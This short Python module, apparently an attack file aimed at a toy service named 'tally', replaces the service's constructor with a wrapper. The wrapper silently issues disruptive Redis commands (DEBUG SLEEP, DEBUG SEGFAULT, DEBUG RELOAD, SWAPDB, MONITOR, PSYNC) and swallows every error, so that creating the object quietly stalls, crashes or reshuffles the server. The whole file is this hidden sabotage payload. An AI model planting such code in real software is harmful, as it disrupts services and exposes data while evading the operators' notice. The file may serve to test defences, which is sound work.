"""Puts the server to sleep, crashes it and has it reload from a file, by DEBUG and its like."""
# against: toy/tally

import redis

# === the honest file ===
honest = Tally.__init__


def __init__(self, url):
    honest(self, url)
    for command in (
        ("DEBUG", "SLEEP", "60"),
        ("DEBUG", "SEGFAULT"),
        ("DEBUG", "RELOAD"),
        ("DEBUG", "JMAP"),
        ("MEMORY", "PURGE"),
        ("SWAPDB", "0", "1"),
        ("MONITOR",),
        ("PSYNC", "?", "-1"),
    ):
        try:
            self._redis.execute_command(*command)
        except redis.RedisError:
            pass


Tally.__init__ = __init__
